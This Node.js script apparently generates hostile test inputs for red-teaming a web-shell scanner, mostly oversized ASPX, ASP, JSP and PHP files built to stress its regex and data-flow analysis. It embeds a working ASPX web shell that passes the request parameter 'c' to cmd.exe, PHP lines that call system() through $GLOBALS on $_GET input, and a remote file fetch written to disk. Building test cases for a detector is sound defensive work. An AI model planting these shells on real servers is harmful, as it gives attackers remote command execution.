// Hostile inputs for the S21B red team: writes files under s21b/hostile/ (node s21b-hostile.mjs)
import { writeFileSync, mkdirSync } from 'node:fs';
const dir = new URL('./s21b/hostile/', import.meta.url);
mkdirSync(dir, { recursive: true });
const w = (n, s) => writeFileSync(new URL(n, dir), s);
const head = '<%@ Page Language="C#" %>\n<script runat="server">\n';
// h01: followParameters writes the argument as a replacement *string*: $' in it is the rest of the body, for every use
w('h01-dollar-quote.aspx', head + 'void M(string p) {\n' + 'x(p);'.repeat(12000) + '\n}\nvoid Page_Load(object s, EventArgs e) { M(Request["$\'"]); }\n</script>\n');
// h02: the same, smaller body, 16 methods
let b = '';
for (let i = 0; i < 16; i++) b += `void M${i}(string p) {\n` + 'x(p);'.repeat(3000) + '\n}\n';
for (let i = 0; i < 16; i++) b += `void C${i}() { M${i}(Request["$'"]); }\n`;
w('h02-dollar-quote-16.aspx', head + b + '</script>\n');
// h03: Session slot assigned request input with $' (followInput's slot replacement is a string too)
w('h03-session-dollar.aspx', head + 'void Page_Load(object s, EventArgs e) { Session["a"] = Request["$\'"];\n' + 'x(Session["a"]);'.repeat(20000) + '}\n</script>\n');
// h04: 64 definitions, each name written 8000 times not as a call, request input in the file
b = '';
for (let i = 0; i < 64; i++) b += `void Meth${i}(string p) { }\n`;
b += 'void Page_Load(object s, EventArgs e) { var r = Request["a"]; }\n';
let names = '';
for (let i = 0; i < 64; i++) names += `Meth${i} `.repeat(1000);
w('h04-many-defs.aspx', head + b + names + '\n</script>\n');
// h05: unbalanced braces: 64 methods called with input, none closed, 500 KiB
b = '';
for (let i = 0; i < 64; i++) b += `void M${i}(string p) { { { x(p);\n` + 'y { '.repeat(1500) + '\n';
for (let i = 0; i < 64; i++) b += `M${i}(Request["a"]);\n`;
w('h05-unbalanced.aspx', head + b.slice(0, 500000) + '\n</script>\n');
// h06: long argument lists: every call 400 chars of commas with input
b = 'void M(string a, string b) { Process.Start(b); }\n';
for (let i = 0; i < 1000; i++) b += 'M(' + 'Request["a"],'.repeat(30) + 'a);\n';
w('h06-long-args.aspx', head + b + '</script>\n');
// h07: TextBox page: 500 KiB of `a.b.c.d... = x.Text` chains for followInput's REQ_TEXT alternative
b = '<asp:TextBox ID="t" runat="server" />\n' + head;
for (let i = 0; i < 6000; i++) b += `v${i} = f(g(h(${'a.'.repeat(25)}Text)));\n`;
w('h07-textbox-chains.aspx', b + '</script>\n');
// h08: VBScript: 8000 names each one literal, each read once (foldVbStrings' use regex of every name)
b = '<%\n';
for (let i = 0; i < 6000; i++) b += `a${i} = "x"\n`;
for (let i = 0; i < 6000; i++) b += `Response.Write a${i}\n`;
w('h08-vb-names.asp', b.slice(0, 65000) + '%>\n');
// h09: VBScript Join(Array(...)) 4000 chars, many statements
b = '<%\n';
const arr = 'Join(Array(' + Array(700).fill('"a"').join(',') + '), "")';
for (let i = 0; i < 20; i++) b += `j${i} = ${arr}\n`;
w('h09-vb-join.asp', b + '%>\n');
// h10: C# one-literal variables: 256 declarations then 30000 reads
b = '';
for (let i = 0; i < 256; i++) b += `string s${i} = "v${i}";\n`;
for (let i = 0; i < 30000; i++) b += `f(s${i % 64});`;
w('h10-cs-literals.aspx', head + 'void Page_Load(object s, EventArgs e) { var r = Request["a"];\n' + b + '}\n</script>\n');
// h11: Java: octal escapes in 400-char literals, 32 KiB..512 KiB
b = '<%\n';
for (let i = 0; i < 1200; i++) b += 'String x' + i + ' = "' + '\\165'.repeat(100) + '";\n';
w('h11-jsp-octal.jsp', b + '%>\n');
// h12: followParameters' call regex on unclosed calls: "M(" + 400 chars + "(" ... never closed
b = 'void M(string p) { Process.Start(p); }\nvoid Page_Load(object s, EventArgs e) { var r = Request["a"]; }\n';
b += ('M(' + 'x'.repeat(390) + '(' + 'y'.repeat(190) + ')').repeat(800);
w('h12-call-unclosed.aspx', head + b + '\n</script>\n');
// h13: PHP: many include $x; lines and $s{1} offsets
b = '<?php\n$s = "system";\n';
for (let i = 0; i < 20000; i++) b += `include $x${i % 50};\n$c = $s{${i % 6}};\n`;
w('h13-php-include.php', b);
// h14: $GLOBALS['f'] many
b = '<?php\n';
for (let i = 0; i < 10000; i++) b += `$GLOBALS['f${i}'] = 'sys'.'tem'; $GLOBALS['f${i}']($_GET['c${i}']);\n`;
w('h14-php-globals.php', b);
// h15-h17: a real-looking ASPX shell padded so the flow layer once threw (S21B-1, S21B-2) or grew (S21B-5)
const SHELL = "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n  ProcessStartInfo psi = new ProcessStartInfo(\"cmd.exe\", \"/c \" + Request[\"c\"]);\n  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n  Process p = Process.Start(psi);\n  Response.Write(p.StandardOutput.ReadToEnd());\n}\n</script>\n";
w('h15-shell-with-session-dollar.aspx', SHELL + '<script runat="server">\nvoid Pad(object s, EventArgs e) { Session["a"] = Request["$\'"];\n' + 'x(Session["a"]);'.repeat(20000) + '}\n</script>\n');
w('h16-shell-with-param-dollar.aspx', SHELL + '<script runat="server">\nvoid M(string p) {\n' + 'p;'.repeat(30000) + '\n}\nvoid Pad(object s, EventArgs e) { M(Request["$\'"]); }\n</script>\n');
{
  const arg = 'HttpContext.Current.Request.QueryString["' + 'a'.repeat(110) + '"].ToString().Trim().Normalize()';
  let pad = '<script runat="server">\n';
  for (let i = 0; i < 8; i++) pad += `void M${i}(string p) {\n` + 'p;'.repeat(30000) + '\n}\n';
  for (let i = 0; i < 8; i++) pad += `void C${i}(object s, EventArgs e) { M${i}(${arg}); }\n`;
  w('h17-shell-param-growth.aspx', SHELL + pad + '</script>\n');
}
console.log('written');
// big ones (16 MiB): the PHP layers of the change at the scanner's size limit
if (process.argv.includes('--big')) {
  const fill = (unit, n = 16 * 1024 * 1024 - 64) => unit.repeat(Math.floor(n / unit.length));
  w('big1-include.php', '<?php\n' + fill('$x = $_GET["f"]; include $x;\n'));
  w('big2-offsets.php', '<?php\n$s = "system";\n' + fill('$c = $s{0}.$s{1}.$s{2}; $GLOBALS[\'f\'] = $c;\n'));
  w('big3-session.php', '<?php\n' + fill('$_SESSION["a"] = $_POST["a"]; $t = $_FILES["u"]["tmp_name"]; move_uploaded_file($t, $d);\n'));
  w('big4-remote.php', '<?php\n' + fill('$t = file_get_contents("http://198.51.100.7/a.txt"); fwrite($f, $t); $p = "x.php"; $r = $_SERVER["DOCUMENT_ROOT"];\n'));
  w('big5-aspx.aspx', '<%@ Page Language="C#" %><script runat="server">\n' + fill('void M(string p) { Process.Start(p); } M(Request["c"]); string s = "a"; x.Text;\n') + '</script>');
  console.log('big written');
}
